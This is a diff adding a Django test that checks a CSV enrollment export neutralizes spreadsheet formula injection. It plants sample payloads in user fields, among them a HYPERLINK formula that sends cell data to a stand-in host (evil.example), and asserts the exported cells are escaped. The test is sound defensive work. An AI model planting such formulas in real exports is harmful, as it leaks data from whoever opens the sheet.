@@ -349,6 +349,33 @@ def test_csv_export_streams_and_holds_only_the_coordinators_programs(client, wor
     assert world["household"].user.email in body
 
 
+def test_csv_export_neutralizes_spreadsheet_formulas(client, world):
+    import csv
+    import io
+
+    household = world["household"]
+    state_machine.verify(household, world["caseworker"])
+    user = household.user
+    user.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    user.last_name = "@SUM(1+1)"
+    user.email = "-2+3@example.com"
+    user.save()
+    household.mailing_is_different = True
+    household.mailing_street = "+1 Main St"
+    household.mailing_city, household.mailing_state = "Fairview", "CO"
+    household.mailing_zip_code = "80521"
+    household.save()
+    client.force_login(world["coordinator"])
+    response = client.get(ENROLLMENTS, {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    [row] = [row for row in rows[1:] if "Grocery Tax Rebate" in row]
+    assert row[0] == "'" + user.get_full_name()
+    assert row[1] == "'-2+3@example.com"
+    assert row[3].startswith("'+1 Main St")
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
 def test_bulk_enroll_marks_enrolled_and_the_dashboard_shows_it(client, world):
     state_machine.verify(world["household"], world["caseworker"])
     grocery = ProgramApplication.objects.get(program=world["grocery"])
